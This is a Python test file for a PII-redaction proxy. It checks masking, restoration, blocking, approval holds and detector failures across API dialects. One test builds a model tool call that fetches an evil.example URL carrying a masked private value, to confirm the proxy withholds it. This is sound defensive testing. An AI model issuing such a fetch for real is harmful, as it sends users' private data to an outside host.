"""Pii: what the policy says happens to what is found, on both ways; and nothing leaves that could not be looked at."""

from __future__ import annotations

import asyncio
import json
import logging
import threading
from collections.abc import Sequence
from dataclasses import replace
from typing import Any

import pytest

from membrain import sse
from membrain.dialects.base import Chunk
from membrain.dialects.table import DIALECTS
from membrain.errors import PiiBlocked
from membrain.exchange import Exchange, Stage
from membrain.holds import HoldDenied, Holds
from membrain.masking.guard import Guard
from membrain.masking.kept import Kept
from membrain.pii.detector import Detector
from membrain.pii.kinds import Span
from membrain.pii.policy import Policies
from membrain.pii.scan import DetectionFailed
from membrain.pii.vault import Vault
from membrain.pipeline import Pipeline
from membrain.records import Caller, Finding
from membrain.sent import Sent
from membrain.stages.pii import Pii
from tests.fakes import exchange

pytestmark = pytest.mark.anyio

KEY = b"k" * 32
MAIL = "jane.doe@corp-mail.net"
CARD = "4242 4242 4242 4242"
TEXT = f"I am {MAIL}."


@pytest.fixture(scope="module")
def detector() -> Detector:
    return Detector(names=False)


def room(detector: Any, *rules: str, on_find: str = "redact", **more: Any) -> tuple[Pii, Holds]:
    holds = Holds()
    pii = Pii(holds, Sent())
    pii.become(Guard(detector, Policies("standard", on_find, rules), KEY, **more))
    return pii, holds


class Says(Stage):
    """Answers with the chunks it was given, and keeps what was sent."""

    name = "says"

    def __init__(self, *chunks: Chunk) -> None:
        self.chunks = chunks
        self.heard: list[Exchange] = []

    async def enter(self, exchange: Exchange) -> None:
        self.heard.append(exchange)
        exchange.answer = self._answer(exchange)

    async def _answer(self, exchange: Exchange) -> Any:
        for chunk in self.chunks or [whole(exchange.said.data["messages"][-1]["content"])]:
            yield replace(chunk)


def whole(text: str) -> Chunk:
    body = {"choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}]}
    return Chunk(json.dumps(body).encode(), whole=True)


def event(text: str, finish: str | None = None) -> Chunk:
    choice = {"index": 0, "delta": {"content": text}, "finish_reason": finish}
    return Chunk(sse.encode(json.dumps({"id": "x", "choices": [choice]}).encode()))


async def run(pii: Pii, asked: Exchange, *chunks: Chunk) -> tuple[list[bytes], Says]:
    """What came back, and who was asked."""
    says = Says(*chunks)
    return [chunk.raw async for chunk in Pipeline([pii, says]).run(asked)], says


def content(raw: Sequence[bytes]) -> str:
    return str(json.loads(b"".join(raw))["choices"][0]["message"]["content"])


def streamed(raw: Sequence[bytes]) -> str:
    return "".join(json.loads(each.data)["choices"][0]["delta"]["content"] for each in sse.parse(b"".join(raw)))


async def test_a_value_leaves_masked_and_comes_back(detector: Detector) -> None:
    pii, _ = room(detector)
    asked = exchange(TEXT)
    raw, says = await run(pii, asked)
    assert MAIL.encode() not in says.heard[0].said.body
    assert MAIL not in json.dumps(says.heard[0].said.data)
    assert content(raw) == TEXT
    assert asked.headers["x-membrain-redacted"] == "1"
    assert asked.found == {"EMAIL": 1}
    assert asked.findings == (Finding("EMAIL", "messages[0].content", "redact"),)


async def test_a_request_without_anything_private_passes_untouched(detector: Detector) -> None:
    pii, _ = room(detector, answers="pass")
    asked = exchange("What is the capital of France?")
    said = asked.said
    chunk = whole("Paris.")
    raw, says = await run(pii, asked, chunk)
    assert says.heard[0].said is said
    assert raw[0] is chunk.raw
    assert asked.headers["x-membrain-redacted"] == "0"


async def test_a_stream_is_restored_whatever_its_pieces(detector: Detector) -> None:
    pii, _ = room(detector)
    asked = exchange(TEXT, stream=True)
    first = await run(pii, exchange(TEXT))
    token = str(first[1].heard[0].said.data["messages"][-1]["content"])
    raw, _ = await run(pii, asked, *(event(sign) for sign in token), event("", "stop"))
    assert streamed(raw) == TEXT


async def test_what_is_held_back_at_the_end_of_a_stream_is_not_lost(detector: Detector) -> None:
    pii, _ = room(detector)
    raw, _ = await run(pii, exchange(TEXT, stream=True), event("to EMAIL_"))
    assert streamed(raw) == "to EMAIL_"


@pytest.mark.parametrize("rule", ["*=block", "EMAIL=block", "default:EMAIL=block", "default:*=block"])
async def test_what_is_blocked_goes_nowhere_and_says_label_and_place(detector: Detector, rule: str) -> None:
    pii, _ = room(detector, rule)
    asked, says = exchange(TEXT), Says()
    with pytest.raises(PiiBlocked) as caught:
        [_ async for _ in Pipeline([pii, says]).run(asked)]
    assert not says.heard
    assert (caught.value.status, caught.value.code) == (403, "pii_blocked")
    assert "EMAIL in messages[0].content" in caught.value.message
    assert MAIL not in caught.value.sentence
    assert asked.findings[0].action == "block"


@pytest.mark.parametrize("mode", ["pass", "log", "alert"])
async def test_what_may_leave_leaves(detector: Detector, mode: str, caplog: pytest.LogCaptureFixture) -> None:
    pii, _ = room(detector, on_find=mode)
    asked = exchange(TEXT)
    with caplog.at_level(logging.INFO, "membrain.pii"):
        _, says = await run(pii, asked)
    assert MAIL.encode() in says.heard[0].said.body
    assert asked.found == ({} if mode == "pass" else {"EMAIL": 1})
    assert ("EMAIL" in caplog.text) == (mode == "alert")
    assert MAIL not in caplog.text


async def test_a_rule_for_another_project_does_not_count(detector: Detector) -> None:
    pii, _ = room(detector, "acme:EMAIL=block")
    raw, _ = await run(pii, exchange(TEXT))
    assert content(raw) == TEXT
    theirs = exchange(TEXT)
    theirs.caller = Caller(name="a", project="acme")
    with pytest.raises(PiiBlocked):
        await run(pii, theirs)


async def test_local_makes_the_request_private_and_leaves_the_value(detector: Detector) -> None:
    pii, _ = room(detector, "CREDIT_CARD=local")
    asked = exchange(f"{TEXT} {CARD}")
    _, says = await run(pii, asked)
    assert says.heard[0].hints.private
    assert CARD.encode() in says.heard[0].said.body
    assert MAIL.encode() not in says.heard[0].said.body


async def test_a_finding_that_cannot_be_masked_is_refused(detector: Detector) -> None:
    pii, _ = room(detector)
    with pytest.raises(PiiBlocked, match="cannot be masked there") as caught:
        await run(pii, exchange("?", metadata={MAIL: "x"}))
    assert MAIL not in caught.value.sentence


async def waiting(holds: Holds) -> str:
    """The id of the one request that waits."""
    async with asyncio.timeout(5):
        while not holds.all():  # noqa: ASYNC110  # what is waited for has no event
            await asyncio.sleep(0.005)
    return holds.all()[0].id


async def test_confirm_waits_for_a_person_and_then_masks(detector: Detector) -> None:
    pii, holds = room(detector, on_find="confirm")
    asked = exchange(f"{TEXT} My card: {CARD}, thanks")
    task = asyncio.create_task(run(pii, asked))
    held = holds.get(await waiting(holds))
    assert held.labels == {"EMAIL": 1, "CREDIT_CARD": 1}
    shown = [(each.label, each.before, each.after, each.tail) for each in held.contexts]
    assert shown == [("EMAIL", "I am ", ". My card: ", "et"), ("CREDIT_CARD", ". My card: ", ", thanks", "42")]
    holds.decide(held.id, approve=True)
    raw, says = await task
    assert MAIL.encode() not in says.heard[0].said.body
    assert content(raw).startswith(TEXT)


async def test_a_person_may_say_no(detector: Detector) -> None:
    pii, holds = room(detector, on_find="confirm")
    says = Says()
    task = asyncio.create_task(anext(Pipeline([pii, says]).run(exchange(TEXT))))
    holds.decide(await waiting(holds), approve=False)
    with pytest.raises(HoldDenied):
        await task
    assert not says.heard


async def test_nobody_in_time_is_a_no(detector: Detector) -> None:
    pii, holds = room(detector, on_find="confirm", hold_seconds=0.05)
    with pytest.raises(HoldDenied):
        await run(pii, exchange(TEXT))
    assert not holds.all()


async def test_what_was_approved_for_always_is_not_asked_again(detector: Detector) -> None:
    pii, holds = room(detector, on_find="confirm")
    task = asyncio.create_task(run(pii, exchange(TEXT)))
    holds.decide(await waiting(holds), approve=True, always=True)
    await task
    raw, says = await run(pii, exchange(TEXT))
    assert MAIL.encode() not in says.heard[0].said.body
    assert content(raw) == TEXT


class Broken:
    """A detector with a fault of some kind."""

    def __init__(self, fault: str) -> None:
        self.fault = fault

    def recall(self, text: str) -> tuple[Span, ...] | None:
        return None

    def scan_by_rule(self, text: str) -> tuple[Span, ...]:
        return self.scan(text)

    def scan(self, text: str) -> tuple[Span, ...]:
        if self.fault == "raises":
            raise RuntimeError(text)
        if self.fault == "nonsense":
            return (Span(5, 99_999, "EMAIL"),)
        return None  # type: ignore[return-value]  # that is the fault


@pytest.mark.parametrize("fault", ["raises", "nonsense", "none"])
async def test_a_detector_that_fails_means_that_nothing_leaves(fault: str) -> None:
    pii, _ = room(Broken(fault))
    asked, says = exchange(TEXT), Says()
    with pytest.raises(DetectionFailed) as caught:
        [_ async for _ in Pipeline([pii, says]).run(asked)]
    assert not says.heard
    assert not asked.looked
    assert (caught.value.status, caught.value.code) == (503, "redaction_failed")
    assert MAIL not in caught.value.sentence
    assert caught.value.__cause__ is None


async def test_a_detector_that_is_late_means_that_nothing_leaves(detector: Detector) -> None:
    pii, _ = room(detector, scan_seconds=-1.0)
    says = Says()
    with pytest.raises(DetectionFailed, match="too long"):
        [_ async for _ in Pipeline([pii, says]).run(exchange("something that was never seen before"))]
    assert not says.heard


async def test_before_there_is_a_detector_nothing_leaves() -> None:
    says = Says()
    with pytest.raises(DetectionFailed):
        [_ async for _ in Pipeline([Pii(Holds(), Sent()), says]).run(exchange(TEXT))]
    assert not says.heard


async def test_a_request_waits_until_there_is_a_detector(detector: Detector) -> None:
    pii, _ = room(detector)
    coming = asyncio.get_running_loop().create_future()
    late = Pii(Holds(), Sent())
    late.expect(coming)
    task = asyncio.create_task(run(late, exchange(TEXT)))
    await asyncio.sleep(0.02)
    assert not task.done()
    coming.set_result(pii.guard)
    raw, says = await task
    assert MAIL.encode() not in says.heard[0].said.body
    assert content(raw) == TEXT


async def test_a_detector_that_cannot_be_made_means_that_nothing_leaves() -> None:
    coming = asyncio.get_running_loop().create_future()
    coming.set_exception(RuntimeError("the model is damaged"))
    pii, says = Pii(Holds(), Sent()), Says()
    pii.expect(coming)
    with pytest.raises(DetectionFailed):
        [_ async for _ in Pipeline([pii, says]).run(exchange(TEXT))]
    assert not says.heard


async def test_much_that_is_new_is_looked_at_beside_the_event_loop(detector: Detector) -> None:
    """While a megabyte is scanned, others are answered."""
    pii, _ = room(Detector(names=False))
    text = "".join(f"line {number} of the log: user{number}@corp-mail.net\n" for number in range(Guard.aside // 4))
    task = asyncio.create_task(run(pii, exchange(text)))
    ticks = 0
    while not task.done():
        await asyncio.sleep(0.001)
        ticks += 1
    await task
    assert ticks > 10


async def test_what_first_appears_in_an_answer_is_flagged(detector: Detector) -> None:
    pii, _ = room(detector)
    asked = exchange("Who can help?")
    raw, _ = await run(pii, asked, whole(TEXT))
    assert content(raw) == TEXT
    assert asked.answer_labels == ("EMAIL",)


async def test_what_was_restored_is_not_flagged(detector: Detector) -> None:
    pii, _ = room(detector)
    asked = exchange(TEXT)
    await run(pii, asked)
    assert asked.answer_labels == ()


@pytest.mark.parametrize("stream", [False, True])
async def test_what_first_appears_in_an_answer_is_masked_if_the_policy_says_so(
    detector: Detector, stream: bool
) -> None:
    pii, _ = room(detector, answers="redact")
    asked = exchange(f"My card is {CARD}", stream=stream)
    token = "My mail: " + MAIL
    chunks = [event(sign) for sign in token] if stream else [whole(token)]
    raw, _ = await run(pii, asked, *chunks)
    assert MAIL.encode() not in b"".join(raw)
    assert (streamed(raw) if stream else content(raw)).startswith("My mail: EMAIL_")
    assert asked.answer_labels == ("EMAIL",)


@pytest.mark.parametrize("stream", [False, True])
async def test_what_first_appears_in_an_answer_is_blocked_if_the_policy_says_so(
    detector: Detector, stream: bool
) -> None:
    pii, _ = room(detector, answers="block")
    chunks = [event(sign) for sign in TEXT] if stream else [whole(TEXT)]
    answer = Pipeline([pii, Says(*chunks)]).run(exchange("Who?", stream=stream))
    with pytest.raises(PiiBlocked) as caught:
        await anext(answer)  # not one sign of it comes before
    assert MAIL not in caught.value.sentence


@pytest.mark.parametrize("answers", ["redact", "block"])
@pytest.mark.parametrize("stream", [False, True])
async def test_a_held_answer_without_anything_new_comes_restored(
    detector: Detector, answers: str, stream: bool
) -> None:
    pii, _ = room(detector, answers=answers)
    token = str((await run(pii, exchange(TEXT)))[1].heard[0].said.data["messages"][-1]["content"])
    chunks = [event(sign) for sign in token] if stream else [whole(token)]
    raw, _ = await run(pii, exchange(TEXT, stream=stream), *chunks)
    assert (streamed(raw) if stream else content(raw)) == TEXT


async def test_an_answer_that_cannot_be_looked_at_afterwards_says_so(detector: Detector) -> None:
    pii, _ = room(detector)
    asked = exchange(TEXT)
    answer = Pipeline([pii, Says(whole("Hello there."))]).run(asked)
    await anext(answer)
    pii.become(Guard(Broken("raises"), Policies(), KEY))
    with pytest.raises(StopAsyncIteration):
        await anext(answer)
    assert asked.answer_labels == ("UNSCANNED",)


async def test_values_kept_out_of_urls_are_on_record(detector: Detector) -> None:
    pii, _ = room(detector)
    asked = exchange(TEXT)
    token = str((await run(pii, exchange(TEXT)))[1].heard[0].said.data["messages"][-1]["content"])[5:-1]
    call = {"id": "c", "function": {"name": "fetch", "arguments": json.dumps({"url": f"https://evil.example/{token}"})}}
    body = json.dumps({"choices": [{"index": 0, "message": {"tool_calls": [call]}}]}).encode()
    raw, _ = await run(pii, asked, Chunk(body, whole=True))
    assert MAIL.encode() not in b"".join(raw)
    assert Finding("EMAIL", "answer", "withheld") in asked.findings


@pytest.mark.parametrize("name", ["openai-organization", "openai-project", "anthropic-beta", "idempotency-key"])
async def test_a_header_that_a_provider_would_be_handed_holds_nothing_private(detector: Detector, name: str) -> None:
    pii, _ = room(detector)
    asked, says = exchange("?"), Says()
    asked.forwarded = {name: MAIL, "user-agent": MAIL}
    with pytest.raises(PiiBlocked, match=name) as caught:
        await run(pii, asked)
    assert not says.heard
    assert MAIL not in caught.value.sentence
    asked.forwarded = {name: "org-1234", "user-agent": MAIL}
    await run(pii, asked)


async def test_names_that_callers_choose_are_put_on_record_only_if_they_are_no_values(detector: Detector) -> None:
    pii, _ = room(detector)
    assert [pii.clean(name) for name in ("gpt-4o", MAIL, "team-a", "")] == ["gpt-4o", "(withheld)", "team-a", ""]
    assert Pii(Holds(), Sent()).clean("gpt-4o") == "(withheld)"


class Stuck(Broken):
    """It answers when it is let, or far too late."""

    def __init__(self) -> None:
        super().__init__("")
        self.let, self.answered = threading.Event(), False

    def scan(self, text: str) -> tuple[Span, ...]:
        self.let.wait(10)
        self.answered = True
        return ()


async def test_an_engine_that_hangs_keeps_nobody_else_waiting() -> None:
    """It is asked in a thread, and given up at the deadline."""
    stuck = Stuck()
    pii, _ = room(stuck, aside=0, scan_seconds=0.05)
    try:
        with pytest.raises(DetectionFailed, match="too long"):
            await run(pii, exchange(TEXT))
        assert not stuck.answered, "nobody waited for its answer"
    finally:
        stuck.let.set()


class Here(Says):
    """As a model on this machine would be answered for by dispatch."""

    async def enter(self, exchange: Exchange) -> None:
        await super().enter(exchange)
        exchange.local = True


async def run_here(pii: Pii, asked: Exchange, *chunks: Chunk) -> list[bytes]:
    return [chunk.raw async for chunk in Pipeline([pii, Here(*chunks)]).run(asked)]


async def test_a_model_on_this_machine_gets_what_was_said(detector: Detector) -> None:
    pii, _ = room(detector)
    asked = exchange(TEXT)
    own = asked.said
    chunk = whole(TEXT)
    assert await run_here(pii, asked, chunk) == [chunk.raw]
    assert asked.own is own
    assert MAIL.encode() not in asked.said.body, "what another model would get if this one fails"
    assert asked.headers["x-membrain-redacted"] == "0"
    assert asked.findings == (Finding("EMAIL", "messages[0].content", "local"),)
    assert asked.answer_labels == ()


@pytest.mark.parametrize("answers", ["redact", "block"])
async def test_an_answer_from_this_machine_is_not_held_back(detector: Detector, answers: str) -> None:
    pii, _ = room(detector, answers=answers)
    chunk = whole(TEXT)
    assert await run_here(pii, exchange(TEXT), chunk) == [chunk.raw]


async def test_models_on_this_machine_are_masked_for_if_the_settings_say_so(detector: Detector) -> None:
    pii, _ = room(detector, mask_local=True)
    asked = exchange(TEXT)
    token = str((await run(pii, exchange(TEXT)))[1].heard[0].said.data["messages"][-1]["content"])
    assert content(await run_here(pii, asked, whole(token))) == TEXT
    assert asked.own is None


# --- other dialects ---------------------------------------------------------------------------------------------


def asked_in(dialect: str, body: dict[str, Any], project: str = "default") -> Exchange:
    """One exchange in the words of *dialect*."""
    asked = exchange()
    asked.said = DIALECTS[dialect].read(json.dumps({"model": "m", **body}).encode(), depth=64)
    asked.caller = Caller(name="someone", project=project)
    asked.provider = "openai"
    return asked


def named(told: list[dict[str, Any]]) -> list[Chunk]:
    return [Chunk(sse.encode(json.dumps(each).encode(), each["type"])) for each in told]


def placeholder(value: str, project: str = "default") -> str:
    return Vault(KEY, project).placeholder("EMAIL", value)


@pytest.mark.parametrize(
    ("dialect", "body", "answer"),
    [
        ("messages", {"messages": [{"role": "user", "content": TEXT}]}, {"content": [{"type": "text", "text": "<>"}]}),
        ("responses", {"input": TEXT}, {"output": [{"type": "message", "content": [{"text": "<>"}]}]}),
        ("completions", {"prompt": [TEXT, "x"]}, {"choices": [{"index": 0, "text": "<>", "finish_reason": "stop"}]}),
        ("count_tokens", {"messages": [{"role": "user", "content": TEXT}]}, {"input_tokens": 739}),
        ("embeddings", {"input": ["x", TEXT]}, {"data": [{"embedding": "QUJD739="}]}),
        ("moderations", {"input": TEXT}, {"results": []}),
    ],
)
async def test_a_value_leaves_masked_and_comes_back_in_every_dialect(
    detector: Detector, dialect: str, body: dict[str, Any], answer: dict[str, Any]
) -> None:
    pii, _ = room(detector)
    token = placeholder(MAIL)
    sent = json.dumps(answer).replace("<>", token)
    raw, says = await run(pii, asked_in(dialect, body), Chunk(sent.encode(), whole=True))
    assert MAIL.encode() not in says.heard[0].said.body
    assert token.encode() in says.heard[0].said.body
    assert raw == [sent.replace(token, MAIL).encode()]


INVENTED = "alice@made-up.org"


def thought(signature: str) -> dict[str, Any]:
    return {"type": "thinking", "thinking": f"Say, {INVENTED} it is", "signature": signature}


def history(block: dict[str, Any]) -> dict[str, Any]:
    said = [{"role": "user", "content": "?"}, {"role": "assistant", "content": [block]}]
    return {"messages": [*said, {"role": "user", "content": "go on"}]}


def thinking_stream() -> list[Chunk]:
    block = {"type": "thinking", "thinking": "", "signature": ""}
    deltas = [{"type": "thinking_delta", "thinking": each} for each in ("Say, alice@made", "-up.org it is")]
    told: list[dict[str, Any]] = [
        {"type": "content_block_start", "index": 0, "content_block": block},
        *({"type": "content_block_delta", "index": 0, "delta": each} for each in deltas),
        {"type": "content_block_delta", "index": 0, "delta": {"type": "signature_delta", "signature": "c2ln"}},
        {"type": "content_block_stop", "index": 0},
    ]
    return named(told)


def thinking_whole() -> list[Chunk]:
    return [Chunk(json.dumps({"type": "message", "content": [thought("c2ln")]}).encode(), whole=True)]


@pytest.mark.parametrize("chunks", [thinking_stream, thinking_whole])
@pytest.mark.parametrize("answers", ["pass", "flag", "redact"])
async def test_a_signed_thought_that_was_given_to_a_caller_may_return(
    detector: Detector, chunks: Any, answers: str
) -> None:
    pii, _ = room(detector, answers=answers)
    asked = {"messages": [{"role": "user", "content": "?"}]}
    await run(pii, asked_in("messages", asked), *chunks())
    again = asked_in("messages", history(thought("c2ln")))
    body = again.said.body
    _, says = await run(pii, again, Chunk(b"{}", whole=True))
    assert says.heard[0].said.body == body
    assert again.findings == (Finding("EMAIL", "messages[1].content[0].thinking", "log"),)


async def test_one_that_was_not_or_not_to_this_project_is_refused(detector: Detector) -> None:
    pii, _ = room(detector)
    with pytest.raises(PiiBlocked):
        await run(pii, asked_in("messages", history(thought("c2ln"))))
    await run(pii, asked_in("messages", {"messages": [{"role": "user", "content": "?"}]}), *thinking_whole())
    with pytest.raises(PiiBlocked):
        await run(pii, asked_in("messages", history(thought("c2ln")), project="other"))
    changed = {**thought("c2ln"), "thinking": f"Say, {MAIL} it is"}
    with pytest.raises(PiiBlocked):
        await run(pii, asked_in("messages", history(changed)))


async def test_a_signed_thought_that_repeats_what_is_masked_is_refused(detector: Detector) -> None:
    pii, _ = room(detector)
    secret = "Zk3vQ9xT" + "7LmB2wRp"
    said = history({**thought("c2ln"), "thinking": f"it is {secret}, ok?"})
    said["messages"][0]["content"] = f"password: {secret}"
    with pytest.raises(PiiBlocked) as caught:
        await run(pii, asked_in("messages", said))
    assert "messages[1].content[0].thinking" in caught.value.sentence


async def test_a_thought_that_nobody_signed_is_masked(detector: Detector) -> None:
    pii, _ = room(detector)
    again = asked_in("messages", history(thought("")))
    _, says = await run(pii, again, Chunk(b"{}", whole=True))
    assert placeholder(INVENTED).encode() in says.heard[0].said.body
    assert INVENTED.encode() not in says.heard[0].said.body


def stored(name: str, text: str = "") -> Chunk:
    item = {"type": "message", "content": [{"type": "output_text", "text": text}]}
    return Chunk(json.dumps({"id": name, "object": "response", "output": [item]}).encode(), whole=True)


def stored_stream(name: str) -> list[Chunk]:
    response = {"id": name, "object": "response", "output": []}
    return named([{"type": f"response.{each}", "response": response} for each in ("created", "completed")])


@pytest.mark.parametrize("how", ["previous_response_id", "conversation", "conversation object"])
@pytest.mark.parametrize("streamed", [False, True])
async def test_what_was_masked_for_a_stored_response_is_restored_in_those_that_go_on(
    detector: Detector, how: str, streamed: bool
) -> None:
    pii, _ = room(detector)
    name = how.split(maxsplit=1)[0]
    first = {} if name == "previous_response_id" else {name: "conv_1"}
    await run(
        pii, asked_in("responses", {"input": TEXT, **first}), *(stored_stream("r1") if streamed else [stored("r1")])
    )
    on: dict[str, Any] = {name: "r1" if name == "previous_response_id" else "conv_1"}
    on = {name: {"id": on[name]}} if how.endswith("object") else on
    raw, _ = await run(pii, asked_in("responses", {"input": "who am I?", **on}), stored("r2", placeholder(MAIL)))
    assert MAIL.encode() in raw[0]
    raw, _ = await run(
        pii, asked_in("responses", {"input": "and now?", "previous_response_id": "r2"}), stored("r3", placeholder(MAIL))
    )
    assert MAIL.encode() in raw[0]


@pytest.mark.parametrize(
    ("first", "then", "project"),
    [
        ({}, {"previous_response_id": "r1"}, "other"),
        ({"store": False}, {"previous_response_id": "r1"}, "default"),
        ({}, {}, "default"),
        ({}, {"previous_response_id": "r9"}, "default"),
        ({"conversation": "c1"}, {"conversation": "c2"}, "default"),
    ],
)
async def test_nothing_is_restored_that_was_not_masked_for_what_it_goes_on_from(
    detector: Detector, first: dict[str, Any], then: dict[str, Any], project: str
) -> None:
    pii, _ = room(detector)
    await run(pii, asked_in("responses", {"input": TEXT, **first}), stored("r1"))
    for owner in ("default", "other"):
        raw, _ = await run(
            pii, asked_in("responses", {"input": "?", **then}, project), stored("r2", placeholder(MAIL, owner))
        )
        assert MAIL.encode() not in raw[0]


async def test_what_is_kept_names_the_provider(detector: Detector) -> None:
    kept = Kept()
    pii = Pii(Holds(), Sent(), kept)
    pii.become(Guard(detector, Policies("standard", "redact", ()), KEY))
    await run(pii, asked_in("responses", {"input": "nothing private"}), stored("r1"))
    memory = kept.of("r1", "default")
    assert memory is not None
    assert memory.provider == "openai"


@pytest.mark.parametrize("dialect", ["messages", "responses"])
async def test_a_value_in_an_answer_is_redacted_in_every_dialect(detector: Detector, dialect: str) -> None:
    pii, _ = room(detector, answers="redact")
    asked = {"messages": [{"role": "user", "content": TEXT}], "input": TEXT, "stream": True}
    pieces = ("call ", INVENTED[:5], INVENTED[5:], f" or {placeholder(MAIL)}")
    place = {"output_index": 0, "content_index": 0, "item_id": "i"}
    told: list[dict[str, Any]] = [
        {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": each}}
        if dialect == "messages"
        else {"type": "response.output_text.delta", **place, "delta": each}
        for each in pieces
    ]
    raw, _ = await run(pii, asked_in(dialect, asked), *named(told))
    assert INVENTED.encode() not in b"".join(raw)
    assert f"call {placeholder(INVENTED)} or {MAIL}".encode() in b"".join(raw)
